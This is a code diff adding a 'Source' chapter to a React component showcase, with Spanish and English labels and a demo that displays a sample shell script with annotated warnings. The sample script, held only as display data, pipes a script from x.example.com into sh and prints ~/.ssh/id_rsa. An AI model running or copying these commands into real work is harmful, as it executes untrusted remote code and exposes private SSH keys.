@@ -7,6 +7,7 @@ import { Difference, DifferenceCount } from '../parts/difference.tsx'
 import { Markdown } from '../parts/markdown.tsx'
 import { moneyText } from '../parts/money-text.ts'
 import { ScrollRegion } from '../parts/scroll-region.tsx'
+import { Source } from '../parts/source.tsx'
 import { useLanguage, useWords, words } from '../words/words.ts'
 import styles from './book.module.css'
 import { type Chapter, State } from './chapter.tsx'
@@ -26,6 +27,9 @@ const texts = words({
     spark: 'Errores por hora, ahora 12',
     show: (size: string) => `Mostrar ${size}`,
     showMore: (size: string) => `Mostrar más de ${size}`,
+    program: 'Programa',
+    remark: 'Lo descargado puede cambiar después de la revisión.',
+    ofWhole: 'Falta la licencia.',
   },
   en: {
     changes: 'Changes',
@@ -41,6 +45,9 @@ const texts = words({
     spark: 'Errors by hour, now 12',
     show: (size: string) => `Show ${size}`,
     showMore: (size: string) => `Show more than ${size}`,
+    program: 'Program',
+    remark: 'What it downloads can change after the review.',
+    ofWhole: 'The license is missing.',
   },
 })
 
@@ -193,7 +200,44 @@ function Charts() {
   )
 }
 
+const program = '#!/bin/sh\nset -eu\n\ncurl -s https://x.example.com/i.sh | sh\ncat ~/.ssh/id_rsa\n'
+
+function Sources() {
+  const text = useWords(texts)
+  const [current, setCurrent] = useState<string>()
+  return (
+    <>
+      <State title="Source">
+        <div className={styles.wide}>
+          <Source label={text.program} text={program} />
+        </div>
+      </State>
+      <State title="Notes">
+        <div className={styles.wide}>
+          <Button onPress={() => setCurrent('download')}>{text.show('curl')}</Button>
+          <Source
+            label={`${text.program} 2`}
+            text={program}
+            current={current}
+            notes={[
+              { id: 'license', line: null, kind: 'info', content: text.ofWhole },
+              { id: 'download', line: 4, kind: 'danger', content: text.remark },
+              { id: 'keys', line: 5, kind: 'warn', content: text.remark },
+            ]}
+          />
+        </div>
+      </State>
+      <State title="Empty">
+        <div className={styles.wide}>
+          <Source label={`${text.program} 3`} text="" />
+        </div>
+      </State>
+    </>
+  )
+}
+
 export const textChapters: readonly Chapter[] = [
+  { id: 'source', title: 'Source', Content: Sources },
   { id: 'markdown', title: 'Markdown', Content: Markdowns },
   { id: 'difference', title: 'Difference', Content: Differences },
   { id: 'scroll-region', title: 'ScrollRegion', Content: ScrollRegions },
